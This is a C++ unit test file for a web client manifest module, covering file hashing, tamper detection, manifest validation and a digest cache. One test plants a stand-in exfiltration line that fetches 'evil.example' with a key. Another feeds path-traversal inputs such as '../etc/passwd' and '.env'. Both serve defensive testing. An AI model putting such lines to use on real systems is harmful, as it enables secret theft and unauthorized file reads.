#include "http/client_manifest.h"

#include <gtest/gtest.h>

#include <unistd.h>

#include <fstream>

using namespace conclave::http;
namespace fs = std::filesystem;

namespace {

// The digests and the client hash below are what coreutils give for the same tree:
//   find . -type f | sed 's|^\./||' | LC_ALL=C sort | xargs sha256sum | sha256sum
constexpr const char* kIndexSha = "fe26c59e91ac8de694b2531dc3bdc1b7faf471d3d7e4e00870af60f5f22897cb";
constexpr const char* kJsSha = "f4c5cf9bb78e85f15dc27180260637cf24b2a24bc39e0788783a3accc4dde614";
constexpr const char* kCssSha = "ef2a875407aca2dd75a7a1dccc3b202918a9bc8e543e0b3def3f34ccd5e56a7b";
constexpr const char* kTreeHash = "26e9e6882c0969c6e8902beedd01f32eb620477e61c4492e1e869798eeb40698";

class ClientManifestTest : public ::testing::Test {
 protected:
  void SetUp() override {
    base = fs::temp_directory_path() / ("conclave-manifest-" + std::to_string(::getpid()));
    fs::remove_all(base);
    root = base / "web";
    fs::create_directories(root / "assets");
    std::ofstream(root / "index.html") << "<!doctype html>";
    std::ofstream(root / "assets" / "index-abc.js") << "export {}";
    std::ofstream(root / "assets" / "B.css") << "b{}";
  }
  void TearDown() override { fs::remove_all(base); }
  fs::path base, root;
};

std::string manifestText(const std::string& files, const std::string& hash = kTreeHash) {
  return R"({"format":"conclave-client-manifest/1","files":)" + files + R"(,"clientHash":")" + hash + R"("})";
}

}  // namespace

TEST_F(ClientManifestTest, TheClientHashIsTheHashOfTheSortedSha256sumList) {
  // Unsorted on purpose: the hash sorts bytewise ("B" before "i"), like LC_ALL=C sort.
  EXPECT_EQ(clientHash({{"index.html", kIndexSha}, {"assets/index-abc.js", kJsSha}, {"assets/B.css", kCssSha}}),
            kTreeHash);
  EXPECT_EQ(sha256Hex("<!doctype html>"), kIndexSha);
}

TEST_F(ClientManifestTest, AWebRootIsHashedFromItsServedFilesWithoutTheManifest) {
  std::ofstream(root / "client-manifest.json") << "{\"anything\": true}";
  std::ofstream(root / ".hidden") << "not served";
  fs::create_directories(root / ".git");
  std::ofstream(root / ".git" / "HEAD") << "not served";
  std::ofstream(root / "bad name.txt") << "not served: a space";
  std::ofstream(base / "outside.js") << "not under the root";
  fs::create_symlink(base / "outside.js", root / "assets" / "escape.js");
  std::string error;
  auto digest = digestWebRoot(root, &error);
  ASSERT_TRUE(digest) << error;
  ASSERT_EQ(digest->files.size(), 3u);
  EXPECT_EQ(digest->files[0].path, "assets/B.css");
  EXPECT_EQ(digest->files[1].path, "assets/index-abc.js");
  EXPECT_EQ(digest->files[2].path, "index.html");
  EXPECT_EQ(digest->files[2].sha256, kIndexSha);
  EXPECT_EQ(digest->clientHash, kTreeHash);
}

TEST_F(ClientManifestTest, ChangingOneServedByteChangesTheHash) {
  std::ofstream(root / "assets" / "index-abc.js") << "export {};fetch('https://evil.example/'+key)";
  std::string error;
  auto digest = digestWebRoot(root, &error);
  ASSERT_TRUE(digest) << error;
  EXPECT_NE(digest->clientHash, kTreeHash);
  std::ofstream(root / "assets" / "index-abc.js") << "export {}";
  std::ofstream(root / "assets" / "extra.js") << "";
  EXPECT_NE(digestWebRoot(root, &error)->clientHash, kTreeHash);
}

TEST_F(ClientManifestTest, AMissingWebRootIsAnError) {
  std::string error;
  EXPECT_FALSE(digestWebRoot(base / "nothing", &error));
  EXPECT_NE(error.find("cannot read"), std::string::npos);
}

TEST_F(ClientManifestTest, AValidManifestIsParsedSorted) {
  std::string error;
  auto m = parseClientManifest(manifestText(std::string(R"([{"path":"index.html","sha256":")") + kIndexSha +
                                            R"("},{"path":"assets/B.css","sha256":")" + kCssSha + R"("}])"),
                               &error);
  ASSERT_TRUE(m) << error;
  ASSERT_EQ(m->files.size(), 2u);
  EXPECT_EQ(m->files[0].path, "assets/B.css");
  EXPECT_EQ(m->clientHash, kTreeHash);
}

TEST_F(ClientManifestTest, AHostileManifestIsRefusedWithAReason) {
  auto refused = [](const std::string& text) {
    std::string error;
    bool parsed = parseClientManifest(text, &error).has_value();
    return !parsed && !error.empty();
  };
  std::string sha = kIndexSha;
  auto one = [&](const std::string& path, const std::string& digest) {
    return manifestText(R"([{"path":")" + path + R"(","sha256":")" + digest + R"("}])");
  };
  EXPECT_TRUE(refused("not json"));
  EXPECT_TRUE(refused(R"({"format":"other","files":[],"clientHash":")" + std::string(kTreeHash) + "\"}"));
  EXPECT_TRUE(refused(manifestText("[]", "abc")));
  EXPECT_TRUE(refused(one("../etc/passwd", sha)));
  EXPECT_TRUE(refused(one("/index.html", sha)));
  EXPECT_TRUE(refused(one("assets//x.js", sha)));
  EXPECT_TRUE(refused(one(".env", sha)));
  EXPECT_TRUE(refused(one("a%2fb", sha)));
  EXPECT_TRUE(refused(one("client-manifest.json", sha)));
  EXPECT_TRUE(refused(one("index.html", "XYZ")));
  EXPECT_TRUE(refused(one("index.html", std::string(64, 'A'))));
  EXPECT_TRUE(
      refused(manifestText(R"([{"path":"a","sha256":")" + sha + R"("},{"path":"a","sha256":")" + sha + R"("}])")));
  std::string many = "[";
  for (size_t i = 0; i <= kMaxClientFiles; ++i)
    many += std::string(i ? "," : "") + R"({"path":"f)" + std::to_string(i) + R"(","sha256":")" + sha + "\"}";
  EXPECT_TRUE(refused(manifestText(many + "]")));
}

TEST_F(ClientManifestTest, TheCachedDigestIsRecomputedOnlyWhenOld) {
  ClientDigestCache cache(root, std::chrono::seconds(10));
  auto t0 = std::chrono::steady_clock::time_point{} + std::chrono::hours(1);
  ASSERT_TRUE(cache.get(t0));
  EXPECT_EQ(cache.get(t0)->clientHash, kTreeHash);
  std::ofstream(root / "index.html") << "<!doctype html><script>changed</script>";
  EXPECT_EQ(cache.get(t0 + std::chrono::seconds(9))->clientHash, kTreeHash);
  EXPECT_NE(cache.get(t0 + std::chrono::seconds(10))->clientHash, kTreeHash);
}
